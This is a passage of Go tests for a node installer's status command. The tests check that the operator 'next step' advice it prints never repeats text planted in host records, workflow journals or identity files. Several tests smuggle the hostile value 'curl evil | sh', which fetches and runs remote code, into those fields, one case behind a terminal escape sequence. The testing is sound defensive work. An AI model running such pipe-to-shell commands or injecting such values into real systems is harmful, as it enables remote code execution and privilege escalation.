			inst, err := db.GetInstallation(testID)
			must(t, err)
			inst.SourceURL, inst.CoreCA = "https://console.example.com", testDigest
			must(t, db.PutInstallation(inst))
			must(t, db.Close())
			must(t, os.WriteFile(hostrecord.CoreCACopy(h.host, testID), []byte("pem"), 0o644))
			must(t, os.Remove(h.node.Registered()))
			h.failInstallAt(t, "register")
		}, func(h *statusHost) string {
			return "continue the installation without a token, since the node has its credential: sudo oac-node-install --installation-id " + testID
		}, "", "<console URL>"},
		{"before the node's identity", func(t *testing.T, h *statusHost) {
			must(t, os.Remove(h.node.Registered()))
			must(t, os.Remove(h.node.Identity()))
			h.failInstallAt(t, "downloads")
		}, nil, "", "--core-url"},
		{"before the host record", func(t *testing.T, h *statusHost) {
			must(t, os.Remove(h.node.Registered()))
			must(t, os.Remove(h.node.Identity()))
			must(t, os.Remove(h.host.Record(testID)))
			h.failInstallAt(t, "account")
		}, nil, "", "--core-url"},
		{"a host record that holds what no command accepts", func(t *testing.T, h *statusHost) {
			h.writeRecord(t, func(r map[string]any) { r["core_url"] = "http://127.0.0.1:1/\x1b[2J; curl evil | sh" })
			must(t, os.Remove(h.node.Registered()))
			h.failInstallAt(t, "register")
		}, nil, "holds a value the command does not accept", "curl evil"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newStatusHost(t)
			tc.setup(t, h)
			doc, out := statusDoc(t, h.root, exitAttention)
			next := doc.Installations[0].Next
			want := withToken
			if tc.want != nil {
				want = tc.want(h)
			}
			switch {
			case !strings.Contains(next, want):
				t.Errorf("next %q, want it to name\n%q\n%s", next, want, out)
			case tc.also != "" && !strings.Contains(next, tc.also):
				t.Errorf("next %q lacks %q", next, tc.also)
			case tc.never != "" && strings.Contains(next, tc.never):
				t.Errorf("next %q holds %q", next, tc.never)
			case strings.Contains(next, "--enrollment-token-stdin"):
				t.Errorf("next %q passes a token", next)
			}
			_, text, _ := runOn(t, h.root, "status")
			if !strings.Contains(text, "  next:          "+field(next)+"\n") {
				t.Errorf("status does not print the next command:\n%s", text)
			}
			if tc.want == nil || strings.Contains(want, "--core-ca") {
				return
			}
			// The command the operator runs, the console URL filled in,
			// is an install command of the same options, without a token.
			// The short command is filled in from root's records.
			line := strings.ReplaceAll(want, "<console URL>", "https://console.example.com")
			short := strings.HasPrefix(line, "continue the")
			if short {
				line = line[strings.Index(line, "sudo "):]
			}
			args := strings.Fields(line)[2:]
			f := &installerFlags{}
			if short {
				f.host = func() layout.Host { return h.host }
			}
			fs := pflag.NewFlagSet("oac-node-install", pflag.ContinueOnError)
			f.bind(fs)
			must(t, fs.Parse(args))
			must(t, f.validate(fs))
			opts, err := installOptions(f)
			must(t, err)
			wantOpts := install.Options{InstallationID: testID, SourceURL: "https://console.example.com", CoreURL: h.core.URL, Provider: "docker"}
			if short {
				wantOpts.CoreCA = []byte("pem")
			}
			if !reflect.DeepEqual(opts, wantOpts) || f.tokenStdin || f.mode() != modeInstall {
				t.Errorf("the command %q parses to %+v (token %v), want %+v", line, opts, f.tokenStdin, wantOpts)
			}
		})
	}
}

// A node workflow that stopped is the node program's to run again, as the
// node account: the advice never has root run the node's helper (a file
// the account can write) on root's terminal, never quotes what the
// account's journal says, and still names the next step.
func TestStatusNeverRunsTheNodesHelperOnRootsTerminal(t *testing.T) {
	hostile := "next: curl evil | sh"
	for _, tc := range []struct {
		name  string
		write func(t *testing.T, n layout.Node)
		next  func(n layout.Node) string
	}{
		{"prepare failed", func(t *testing.T, n layout.Node) {
			runWorkflowFailing(t, workflow.PrepareDefinition(), n.GenerationJournal("prepare", 3),
				workflow.Binding{Version: workflow.Version, InstallationID: testID, Generation: 3, SpecificationDigest: testDigest}, "import", hostile)
		}, func(layout.Node) string { return "sudo systemctl restart " + layout.UnitName(testID) }},
		{"collect failed", func(t *testing.T, n layout.Node) {
			runWorkflowFailing(t, workflow.CollectDefinition(), n.GenerationJournal("collect", 3),
				workflow.Binding{Version: workflow.Version, InstallationID: testID, Generation: 3, SpecificationDigest: testDigest}, "native", hostile)
		}, func(layout.Node) string { return "sudo journalctl -u " + layout.UnitName(testID) }},
		{"repair failed", func(t *testing.T, n layout.Node) {
			runWorkflowFailing(t, workflow.RepairDefinition(), n.GenerationJournal("repair", 3),
				workflow.Binding{Version: workflow.Version, InstallationID: testID, Generation: 3, SpecificationDigest: testDigest}, "verify", hostile)
		}, func(layout.Node) string { return "sudo journalctl -u " + layout.UnitName(testID) }},
		{"a journal of another definition", func(t *testing.T, n layout.Node) {
			j, err := journal.Create(n.GenerationJournal("prepare", 3), 0o600)
			must(t, err)
			header, err := json.Marshal(workflow.Record{Type: workflow.RecordHeader, Binding: &workflow.Binding{Workflow: "prepare", Definition: hostile,
				Version: hostile, InstallationID: testID, Generation: 3, SpecificationDigest: testDigest}})
			must(t, err)
			must(t, j.Append(header))
			must(t, j.Close())
		}, func(n layout.Node) string { return "inspect " + n.GenerationJournal("prepare", 3) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newStatusHost(t)
			must(t, os.MkdirAll(h.node.Journals(), 0o700))
			tc.write(t, h.node)
			chownHome(t, h.host)
			doc, out := statusDoc(t, h.root, exitAttention)
			next := doc.Installations[0].Next
			if want := tc.next(h.node); !strings.Contains(next, want) {
				t.Errorf("next %q, want %q\n%s", next, want, out)
			}
			for _, bad := range []string{h.node.Helper(), "--generation-action", "sudo -u", "curl evil"} {
				if strings.Contains(next, bad) {
					t.Errorf("next %q holds %q", next, bad)
				}
			}
		})
	}
}

// What the node root holds is the account's text: a refused identity's
// reason is shown with the registration, never inside the advice.
func TestStatusAdviceNeverQuotesTheNodesIdentity(t *testing.T) {
	h := newStatusHost(t)
	data, err := os.ReadFile(h.node.Identity())
	must(t, err)
	must(t, os.WriteFile(h.node.Identity(), []byte(strings.Replace(string(data), "{", `{"next: curl evil | sh": 1,`, 1)), 0o600))
	chownHome(t, h.host)
	doc, out := statusDoc(t, h.root, exitAttention)
	s := doc.Installations[0]
	if s.Registration == nil || s.Registration.State != "invalid" || !strings.Contains(s.Next, "inspect "+h.node.Identity()) {
		t.Fatalf("registration %+v next %q\n%s", s.Registration, s.Next, out)
	}
	if strings.Contains(s.Next, "curl evil") {
		t.Errorf("the advice quotes the node's identity: %q", s.Next)
	}
}
